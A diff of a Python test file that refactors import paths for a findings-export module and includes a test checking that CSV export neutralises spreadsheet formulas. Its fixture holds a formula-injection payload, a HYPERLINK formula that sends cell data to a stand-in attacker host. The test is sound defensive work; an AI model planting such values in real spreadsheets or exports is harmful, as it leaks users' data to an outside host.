@@ -13,7 +13,8 @@ from sqlalchemy.orm import Session
 
 from tests.factories import add_finding, add_premises, add_school
 from zoneguard.errors import ValidationError
-from zoneguard.services.findings import export, list_findings
+from zoneguard.reports.finding_files import export
+from zoneguard.services.cases.findings import list_findings
 from zoneguard.services.keys import Scope
 
 TODAY = date(2026, 6, 1)
@@ -129,7 +130,7 @@ def test_findings_csv_neutralises_formulas() -> None:
     import csv
     import io
 
-    from zoneguard.services.findings import CSV_COLUMNS, to_csv
+    from zoneguard.reports.finding_files import CSV_COLUMNS, to_csv
 
     row = dict.fromkeys(CSV_COLUMNS)
     row.update(id=1, premises_name='=HYPERLINK("http://evil.example/?x="&A1,"click")',
